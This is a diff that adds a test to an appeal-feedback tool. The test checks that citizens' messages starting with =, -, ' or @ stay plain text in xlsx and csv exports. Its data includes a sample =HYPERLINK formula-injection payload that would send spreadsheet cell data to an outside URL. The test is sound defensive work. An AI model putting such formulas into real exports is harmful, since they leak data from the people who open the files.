@@ -154,3 +154,31 @@ def test_feedback_export_reads_unit_names_as_the_champions_labels(appeal_home, t
         assert next(store.rows()).unit == "武冈市住房和城乡建设局"
     finally:
         store.close()
+
+
+def test_a_citizens_text_that_looks_like_a_formula_stays_text_in_the_exports_trainers_open(appeal_home, tmp_path):
+    """A web message may start with = (or +, -, @); a spreadsheet program runs such a cell as a formula
+    (=HYPERLINK sends the sheet's data away) when a trainer opens the export. It must stay text there, and come back
+    unchanged when the export is read for training."""
+    import openpyxl
+
+    from training.feedback_store import Feedback, FeedbackStore
+
+    texts = ['=HYPERLINK("http://example.com/?"&A2,"点击查看详情")小区电梯坏了', "-1楼车库漏水三个月没人修",
+             "'=1+1 物业费乱收", "@物业 小区路灯不亮"]
+    install_model(appeal_home, "demo-baseline")
+    store = FeedbackStore(f"sqlite:///{appeal_home / 'appeal.db'}")
+    try:
+        for number, text in enumerate(texts, 1):
+            store.add(Feedback(text=text, topic="城乡建设", ticket_id=f"T-{number}"))
+    finally:
+        store.close()
+    for name in ("feedback.xlsx", "feedback.csv"):
+        result = subprocess.run([*APPEAL, "feedback", "export", "--out", str(tmp_path / name)], cwd=REPO,
+                                env=_env(appeal_home), capture_output=True, text=True, timeout=120)
+        assert result.returncode == 0, result.stderr
+        assert load_tickets(tmp_path / name)[0]["text"] == texts
+    cells = [row[2] for row in openpyxl.load_workbook(tmp_path / "feedback.xlsx").active.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == texts and {c.data_type for c in cells} == {"s"}  # text cells, no formula
+    written = (tmp_path / "feedback.csv").read_text(encoding="utf-8-sig")
+    assert "\"'=HYPERLINK(" in written and ",'-1楼车库漏水" in written and ",''=1+1" in written and ",'@物业" in written
